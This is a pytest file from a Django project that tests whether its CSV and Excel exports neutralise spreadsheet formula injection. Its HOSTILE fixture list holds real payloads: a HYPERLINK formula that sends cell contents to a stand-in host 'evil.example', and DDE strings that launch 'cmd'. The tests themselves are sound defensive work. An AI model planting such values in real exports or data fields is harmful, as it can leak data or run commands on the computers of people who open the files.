"""Formula injection (OWASP CSV injection): hostile text is written as text in every export."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from civicgrid.analytics.services import export_request
from civicgrid.cases.models import Case
from civicgrid.core.spreadsheets import SafeCsvWriter, csv_cell, is_hostile
from civicgrid.territory.models import Area

MARCH = {"period": "month", "date": "2026-03-01"}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def export(user, kind, fmt, params, capture):
    with capture(execute=True):
        e = export_request(kind=kind, fmt=fmt, params=params, actor=user)
    e.refresh_from_db()
    with e.file.open("rb") as f:
        return f.read()


def csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def xlsx_cells(data: bytes) -> list:
    ws = load_workbook(io.BytesIO(data)).active
    return [c for row in ws.iter_rows() for c in row]


def assert_csv_safe(data: bytes, hostile: list[str]) -> None:
    cells = csv_cells(data)
    for value in hostile:
        assert "'" + value in cells, value
    assert not [c for c in cells if is_hostile(c)]


def assert_xlsx_safe(data: bytes, hostile: list[str]) -> None:
    cells = xlsx_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for value in hostile:
        # Excel normalises a lone CR in stored text; the cell is text either way.
        found = by_value.get(value) or by_value.get(value.replace("\r", "\n"))
        assert found is not None, value
        assert found.data_type == "s" and found.quotePrefix, value


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        *[(h, "'" + h) for h in HOSTILE],
        ("正常文字", "正常文字"),
        ("a=b", "a=b"),
        (-5, -5),
        (None, None),
    ],
)
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


def test_safe_csv_writer_quotes_and_prefixes():
    out = io.StringIO()
    SafeCsvWriter(out).writerow(["=1+2", 'say "hi", ok', 3.5])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+2", 'say "hi", ok', "3.5"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_case_export_writes_hostile_descriptions_as_text(
    world, march, frozen_now, django_capture_on_commit_callbacks, fmt
):
    ids = list(Case.objects.filter(area__code__startswith="140213").order_by("pk")[: len(HOSTILE)])
    assert len(ids) == len(HOSTILE)
    for case, value in zip(ids, HOSTILE, strict=True):
        Case.objects.filter(pk=case.pk).update(description=value, address=value)
    data = export(world.leader_a, "cases", fmt, MARCH, django_capture_on_commit_callbacks)
    (assert_csv_safe if fmt == "csv" else assert_xlsx_safe)(data, HOSTILE)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_indicator_export_writes_hostile_area_names_as_text(
    world, march, frozen_now, django_capture_on_commit_callbacks, fmt
):
    Area.objects.filter(code="140213000000").update(name=HOSTILE[0])
    Area.objects.filter(code="140214000000").update(name=HOSTILE[2])
    data = export(world.admin, "indicators", fmt, MARCH, django_capture_on_commit_callbacks)
    (assert_csv_safe if fmt == "csv" else assert_xlsx_safe)(data, [HOSTILE[0], HOSTILE[2]])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_assessment_export_writes_hostile_worker_names_as_text(
    world, march, frozen_now, django_capture_on_commit_callbacks, fmt
):
    worker = world.worker_a1
    worker.full_name = HOSTILE[3]
    worker.save(update_fields=["full_name"])
    data = export(
        world.leader_a,
        "assessment",
        fmt,
        {"date": "2026-03-01"},
        django_capture_on_commit_callbacks,
    )
    (assert_csv_safe if fmt == "csv" else assert_xlsx_safe)(data, [HOSTILE[3]])
